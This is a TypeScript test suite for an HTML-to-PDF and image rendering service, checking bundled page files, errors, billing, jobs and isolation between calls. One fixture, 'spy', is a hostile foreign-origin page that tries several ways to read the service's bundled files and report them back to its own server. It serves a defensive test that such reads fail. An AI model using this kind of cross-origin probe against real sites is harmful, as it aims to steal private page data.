import { randomBytes } from 'node:crypto';
import { readFileSync } from 'node:fs';
import { createRequire } from 'node:module';
import { afterAll, beforeAll, expect, test } from '@jest/globals';
import sharp from 'sharp';
import { type ReadPdf, readPdf } from '../render/read-pdf.ts';
import { startWebServer, type WebServer } from '../render/web-server.ts';
import { type CallRequest, type OwnService, startService } from '../service.ts';
import { zipOf } from './make-zip.ts';
import { pageForm } from './page-form.ts';

const font = readFileSync(createRequire(import.meta.url).resolve('dejavu-fonts-ttf/ttf/DejaVuSerif.ttf'));
const picture = await sharp({ create: { width: 8, height: 8, channels: 3, background: '#c03060' } })
  .png()
  .toBuffer();

/** A page that uses every kind of file. */
const site = {
  'index.html': `<link rel="stylesheet" href="css/main.css?v=2"><h1>Report</h1><img src="img/logo.png"><video poster="img/logo.png"></video>
    <div><iframe src="parts/" height="60"></iframe></div>
    <p id="module">x<p id="data">x<p id="worker">x<p id="none">x<script type="module" src="js/main.js"></script>`,
  'css/main.css': `@import "colors.css"; @font-face { font-family: F; src: url(../fonts/f.ttf) } h1 { font-family: F }`,
  'css/colors.css': 'p { color: #123456 }',
  'fonts/f.ttf': font,
  'img/logo.png': picture,
  'parts/index.html': '<p>a part: é',
  'js/main.js': `import { answer } from './answer.js';
    const show = (id, text) => { document.getElementById(id).textContent = text };
    show('module', 'module ' + answer + ' ' + isSecureContext);
    show('data', (await (await fetch('/data/é.json')).json()).text);
    new Worker('js/worker.js').onmessage = ({ data }) => show('worker', data);
    show('none', 'status ' + (await fetch('/nothing')).status);`,
  'js/answer.js': 'export const answer = 42;',
  'js/worker.js': `importScripts('/js/name.js'); fetch('/data/é.json').then((r) => r.json()).then(({ text }) => postMessage(name + ' ' + text));`,
  'js/name.js': 'self.name = "worker";',
  'data/é.json': '{"text":"from JSON"}',
} as const;

const siteText = [
  'Report',
  'a part: é',
  'module 42 true',
  'from JSON',
  'worker from JSON',
  'status 404',
].join('\n');

let service: OwnService;
let stranger: WebServer;
beforeAll(async () => {
  stranger = await startWebServer((path, response) => {
    const origin = { 'Access-Control-Allow-Origin': '*', 'Content-Type': 'text/html' };
    response.writeHead(200, origin).end(path === '/frame' ? spy : `stranger${path}`);
  });
  service = await startService({ egressAllow: [`127.0.0.1:${stranger.port}`] });
});
afterAll(async () => {
  await service.stop();
  await stranger.close();
});

/** Tries in every way to read the files of the page that it is in, and reports what it got. */
const spy = `<p>watched<script>
  var secret = 'none';
  const got = (what) => fetch('/got-' + what);
  fetch('http://bundle.localhost/secret.js').then(() => got('fetch'), () => {});
  fetch('http://bundle.localhost/secret.js', { mode: 'no-cors' }).then(() => got('no-cors'), () => {});
  new Worker(URL.createObjectURL(new Blob(["importScripts('http://bundle.localhost/secret.js'); fetch('http://127.0.0.1:' + port + '/got-' + secret)".replace(/port/, location.port)])));
</script>
<script src="http://bundle.localhost/secret.js" onload="got(secret)"></script>
<img src="http://bundle.localhost/img/logo.png" onload="got('image')">
<link rel="stylesheet" href="http://bundle.localhost/main.css" onload="got('css')">
<iframe src="http://bundle.localhost/secret.html" onload="try { this.contentDocument.body.innerHTML && got('frame') } catch {}"></iframe>
<iframe srcdoc="<script src='http://bundle.localhost/secret.js' onload='parent.got(&quot;srcdoc&quot;)'></script>"></iframe>`;

type Fields = Readonly<Record<string, string | File>>;

async function send(path: string, request: CallRequest): Promise<Response> {
  return service.call('POST', path, { key: service.liveKey, ...request });
}

async function read(response: Response): Promise<ReadPdf> {
  if (response.status !== 200) throw new Error(await response.text());
  return readPdf(new Uint8Array(await response.arrayBuffer()));
}

async function printed(files: Readonly<Record<string, string | Uint8Array>>, fields: Fields = {}) {
  const response = await send('/htmlToPdf', { form: pageForm(files, fields) });
  return { response, pdf: await read(response) };
}

function textOf({ pages }: ReadPdf): string {
  return pages.map(({ text }) => text).join('\n');
}

function bytesOf(content: string | Uint8Array): Buffer {
  return Buffer.from(content as string);
}

async function upload(bytes: Uint8Array<ArrayBuffer>): Promise<string> {
  const json = { filename: 'site.zip', size: bytes.length };
  const place = (await (await send('/uploads', { json })).json()) as Readonly<Record<string, string>>;
  const put = await fetch(String(place.upload_url), { method: 'PUT', body: bytes });
  expect(put.status).toBe(200);
  return String(place.document_id);
}

const zipped = Object.fromEntries(Object.entries(site).map(([name, content]) => [name, bytesOf(content)]));

test.each<readonly [string, () => CallRequest | Promise<CallRequest>]>([
  ['a form', () => ({ form: pageForm(site) })],
  [
    'a form with the page beside its files',
    () => {
      const { 'index.html': page, ...files } = site;
      return { form: pageForm(files, { html: page }) };
    },
  ],
  [
    'a form with the page as a file',
    () => {
      const { 'index.html': page, ...files } = site;
      return { form: pageForm(files, { html: new File([page], 'report.html', { type: 'text/html' }) }) };
    },
  ],
  ['a ZIP in a form', () => ({ form: pageForm({}, { bundle: new File([zipOf(zipped)], 'site.zip') }) })],
  ['a ZIP in JSON', () => ({ json: { bundle_base64: zipOf(zipped).toString('base64') } })],
  [
    'a ZIP of one folder',
    () => {
      const inFolder = Object.entries(zipped).map(([name, content]) => [`site/${name}`, content] as const);
      return { json: { bundle_base64: zipOf(Object.fromEntries(inFolder)).toString('base64') } };
    },
  ],
  ['an uploaded ZIP', async () => ({ json: { bundle_document_id: await upload(zipOf(zipped)) } })],
  [
    'a ZIP of 7 MB',
    async () => ({
      json: {
        bundle_document_id: await upload(zipOf({ ...zipped, 'ballast.bin': randomBytes(7 * 1024 * 1024) })),
      },
    }),
  ],
  [
    'a ZIP of 40 MB',
    async () => ({
      json: {
        bundle_document_id: await upload(zipOf({ ...zipped, 'ballast.bin': randomBytes(40 * 1024 * 1024) })),
      },
    }),
  ],
])('prints a page with all its files from %s', async (_what, request) => {
  const response = await send('/htmlToPdf', await request());
  const pdf = await read(response);
  expect(textOf(pdf)).toBe(siteText);
  expect(pdf.pages[0]?.fonts).toContain('DejaVuSerif');
  expect(pdf.pages[0]?.colors).toContain('#123456');
  expect(pdf.pages[0]?.images).toBe(2);
  expect(response.headers.get('x-render-warnings')).toBe('1'); // the file that is not there
  expect(response.headers.get('x-warning')).toMatch(/^fetch http:\/\/bundle\.localhost\/nothing: status 404/);
  expect(response.headers.get('x-credits-used')).toBe('1.01');
});

test('marks the page of a call in test', async () => {
  const request = { form: pageForm(site), environment: 'test', key: service.testKey } as const;
  const pdf = await read(await send('/htmlToPdf', request));
  expect(textOf(pdf)).toContain('worker from JSON');
});

test('prints a page that conforms, from files of 7 MB', async () => {
  const form = pageForm(
    {},
    { conformance: 'pdf/a-2b', bundle_document_id: await upload(zipOf({ ...zipped, b: randomBytes(7e6) })) },
  );
  expect(textOf(await read(await send('/htmlToPdf', { form })))).toBe(siteText);
});

test('reads files of 30 MB that the page asks for, byte by byte', async () => {
  const ballast = randomBytes(30 * 1024 * 1024);
  const page = `<p id="sum"><script>fetch('b.bin').then((r) => r.arrayBuffer()).then((b) => crypto.subtle.digest('SHA-256', b)).then((d) => {
    sum.textContent = new Uint8Array(d).toHex?.() ?? [...new Uint8Array(d)].map((x) => x.toString(16).padStart(2, '0')).join('') })</script>`;
  const id = await upload(zipOf({ 'index.html': page, 'b.bin': ballast }));
  const pdf = await read(await send('/htmlToPdf', { json: { bundle_document_id: id } }));
  const { createHash } = await import('node:crypto');
  expect(textOf(pdf)).toBe(createHash('sha256').update(ballast).digest('hex'));
});

test('takes header and footer from the files, unless they are sent', async () => {
  const files = {
    'index.html': '<p>page',
    'header.html':
      '<link rel="stylesheet" href="css/h.css"><img width="9" height="9" src="img/logo.png"><p class="h">own header',
    'footer.html': '<p style="font-size: 12px">own footer',
    'css/h.css': '.h { font-size: 12px; color: #00aa00; -webkit-print-color-adjust: exact }',
    'img/logo.png': picture,
  };
  const { pdf } = await printed(files, {
    margin: '3cm',
    footer_html: '<p style="font-size: 12px">sent footer',
  });
  expect(textOf(pdf)).toContain('own header');
  expect(textOf(pdf)).toContain('sent footer');
  expect(textOf(pdf)).not.toContain('own footer');
  expect(pdf.pages[0]?.colors).toContain('#00aa00');
  expect(pdf.pages[0]?.images).toBe(1);
});

test('prints the header of a test call from files that lie in the bucket', async () => {
  const files = {
    'index.html': '<p>page',
    'header.html': '<p style="font-size: 12px">own header<img width="9" height="9" src="img/logo.png">',
    'img/logo.png': picture,
  };
  const id = await upload(zipOf({ ...files, b: randomBytes(6e6) }));
  const json = { bundle_document_id: id, margin: '3cm' };
  const { pages } = await read(await send('/htmlToPdf', { json }));
  expect(pages[0]?.text).toContain('own header');
  expect(pages[0]?.images).toBe(1);
});

test('draws a page with its files', async () => {
  const form = pageForm(
    { 'index.html': '<body style="margin: 0"><img src="img/logo.png">', 'img/logo.png': picture },
    { width: '8', height: '8', full_page: 'false' },
  );
  const response = await send('/htmlToImage', { form });
  const { data } = await sharp(await response.bytes())
    .removeAlpha()
    .raw()
    .toBuffer({ resolveWithObject: true });
  expect([...data.subarray(0, 3)]).toEqual([0xc0, 0x30, 0x60]);
});

test.each<readonly [string, Fields]>([
  ['a file among the others', {}],
  ['a field', { markdown: '# Title\n\n![logo](img/logo.png)' }],
])('prints Markdown with its files: %s', async (_what, fields) => {
  const own = fields.markdown ? {} : { 'index.md': '# Title\n\n![logo](img/logo.png)' };
  const response = await send('/markdownToPdf', {
    form: pageForm({ ...own, 'img/logo.png': picture }, fields),
  });
  const { pages } = await read(response);
  expect(pages[0]?.text).toBe('Title');
  expect(pages[0]?.images).toBe(1);
});

test('prints a page in the encoding that it names', async () => {
  const page = Buffer.from('<meta charset="windows-1251"><p>\xcf\xf0\xe8\xe2\xe5\xf2', 'latin1');
  expect(textOf((await printed({ 'index.html': page })).pdf)).toBe('Привет');
});

test('shows nothing of a call to the next one, and none of the files to other pages', async () => {
  await printed({
    ...site,
    'sw.js': '',
    'index.html': `<script>navigator.serviceWorker.register('/sw.js'); localStorage.a = 1; caches.open('c'); document.cookie = 'a=b'</script>`,
  });
  const probe = `<p id="found"><script>Promise.all([fetch('/data/é.json').then((r) => r.status), caches.keys(), navigator.serviceWorker.getRegistrations()])
    .then(([status, keys, workers]) => { found.textContent = [status, keys.length, workers.length, localStorage.length, document.cookie.length].join() })</script>`;
  expect(textOf((await printed({ 'index.html': probe })).pdf)).toBe('404,0,0,0,0');
  const html = `<img src="http://bundle.localhost/img/logo.png"><p id="found"><script>
    fetch('http://bundle.localhost/data/é.json').then(() => { found.textContent = 'found' }, () => { found.textContent = 'nothing' })</script>`;
  expect(textOf(await read(await send('/htmlToPdf', { json: { html } })))).toBe('nothing');
});

test('lets the page use other origins, which cannot read its files', async () => {
  const page = `<p id="api"></p><script>fetch('${stranger.url('/api')}').then((r) => r.text()).then((t) => { api.textContent = t })</script>
    <iframe src="${stranger.url('/frame')}" width="600" height="400"></iframe>`;
  const files = {
    'secret.js': 'var secret = "secret"',
    'secret.html': 'secret',
    'main.css': '',
    'img/logo.png': picture,
  };
  const { pdf } = await printed({ 'index.html': page, ...files }, { wait_for: '1000' });
  expect(textOf(pdf)).toContain('stranger/api');
  expect(textOf(pdf)).toContain('watched');
  expect(stranger.requests.map(({ path }) => path).filter((path) => path.startsWith('/got'))).toEqual([]);
  expect(JSON.stringify(stranger.requests)).not.toContain('bundle-pass');
});

test('names the address where a page left, which none of its files is', async () => {
  const form = pageForm({ 'index.html': '<script>location = "two.html"</script>', 'two.html': '<p>two' });
  const response = await send('/htmlToPdf', { form });
  expect(await response.json()).toMatchObject({
    code: 'invalid_field',
    message:
      'html redirects to http://bundle.localhost/two.html instead of showing a page to print. Send the page that it leads to.',
  });
});

test.each<readonly [string, string, string, () => FormData]>([
  [
    'no page',
    'missing_field',
    'html is required: files has no index.html.',
    () => pageForm({ 'a.html': 'a' }),
  ],
  [
    'a page in another folder',
    'missing_field',
    'html is required: bundle has no index.html.',
    () => pageForm({}, { bundle: new File([zipOf({ 'a/index.html': 'a', 'b/x': 'b' })], 'a.zip') }),
  ],
  [
    'nothing at all',
    'missing_field',
    'html is required, or one of url, template, bundle, bundle_base64, bundle_document_id, for example {"html": "<h1>Hello</h1>"}.',
    () => pageForm({}, { css: 'p {}' }),
  ],
  [
    'files and a ZIP',
    'source_conflict',
    'files cannot be sent together with bundle: send only one of them.',
    () => pageForm({ 'index.html': 'a' }, { bundle: new File(['x'], 'a.zip') }),
  ],
  [
    'files and a URL',
    'source_conflict',
    'files cannot be sent together with url: send only one of them.',
    () => pageForm({ a: 'a' }, { url: 'https://example.com' }),
  ],
  [
    'a page and a ZIP',
    'source_conflict',
    'bundle cannot be sent together with html: send only one of them.',
    () => pageForm({}, { html: 'a', bundle: new File(['x'], 'a.zip') }),
  ],
  [
    'a base URL',
    'invalid_field',
    'base_url cannot be sent with files of the page: they are what its relative URLs lead to.',
    () => pageForm({ 'index.html': 'a' }, { base_url: 'https://example.com' }),
  ],
  [
    'a header that is too large',
    'payload_too_large',
    'header.html in files is larger than 1 MB.',
    () => pageForm({ 'index.html': 'a', 'header.html': 'x'.repeat(1024 * 1024 + 1) }),
  ],
  [
    'an unknown document',
    'document_not_found',
    'bundle_document_id names no document: it may have been deleted or have expired. GET /files lists your documents; POST /uploads takes new files.',
    () => pageForm({}, { bundle_document_id: '01890a5d-ac96-774b-bcce-b302099a8057' }),
  ],
])('refuses %s, at no cost', async (_what, code, message, form) => {
  const { liveKey: key } = await service.newAccount();
  const response = await send('/htmlToPdf', { form: form(), key });
  expect(await response.json()).toMatchObject({ code, message });
  const credits = await service.call('GET', '/credits', { key });
  expect(await credits.json()).toMatchObject({ balance: 100, reserved: 0, spent: 0 });
});

test('gives nobody else the uploaded files', async () => {
  const json = { bundle_document_id: await upload(zipOf(zipped)) };
  const { liveKey } = await service.newAccount();
  expect((await send('/htmlToPdf', { json, key: liveKey })).status).toBe(404);
});

test('answers a dry run without unpacking anything', async () => {
  const json = { bundle_base64: 'AAAA', dry_run: true, page_ranges: '1' };
  const response = await send('/htmlToPdf', { json });
  expect(await response.json()).toEqual({
    endpoint: '/htmlToPdf',
    credits: { minimum: 1.01, maximum: 1.01 },
  });
  const unknown = { bundle_document_id: '01890a5d-ac96-774b-bcce-b302099a8057', dry_run: true };
  expect((await send('/htmlToPdf', { json: unknown })).status).toBe(404);
});

test('prints files once for a key, and refuses it for other names', async () => {
  const headers = { 'Idempotency-Key': 'bundle-1' };
  const form = (name: string) => pageForm({ 'index.html': '<p>page', [name]: 'x' });
  const first = await send('/htmlToPdf', { form: form('a'), headers });
  const again = await send('/htmlToPdf', { form: form('a'), headers });
  expect(again.headers.get('idempotency-replayed')).toBe('true');
  expect(Buffer.from(await again.arrayBuffer())).toEqual(Buffer.from(await first.arrayBuffer()));
  const other = await send('/htmlToPdf', { form: form('b'), headers });
  expect(await other.json()).toMatchObject({ code: 'idempotency_key_reused' });
});

test('prints files in a job', async () => {
  const form = pageForm(site, { async: 'true', storage: '{"mode":"default"}' });
  const accepted = await send('/htmlToPdf', { form });
  expect(accepted.status).toBe(202);
  const { status_url } = (await accepted.json()) as { status_url: string };
  const job = await finished(status_url);
  expect(job).toMatchObject({ status: 'completed' });
  const { document_id } = job.result as { document_id: string };
  const file = await service.call('GET', `/files/${document_id}/download`, { key: service.liveKey });
  expect(textOf(await read(file))).toBe(siteText);
});

async function finished(url: string): Promise<{ readonly status: string; readonly result?: unknown }> {
  for (;;) {
    const response = await fetch(url, { headers: { Authorization: `Bearer ${service.liveKey}` } });
    const job = (await response.json()) as { status: string };
    if (job.status !== 'queued' && job.status !== 'processing') return job;
    await new Promise((resolve) => setTimeout(resolve, 100));
  }
}

test('leaves nothing in the bucket of files that it sent to the browser', async () => {
  const { ListObjectsV2Command } = await import('@aws-sdk/client-s3');
  const { s3 } = await import('../../functions/core/aws/s3-client.ts');
  const listed = await s3.send(new ListObjectsV2Command({ Bucket: process.env.BUCKET, Prefix: 'work/' }));
  expect(listed.Contents ?? []).toEqual([]);
});
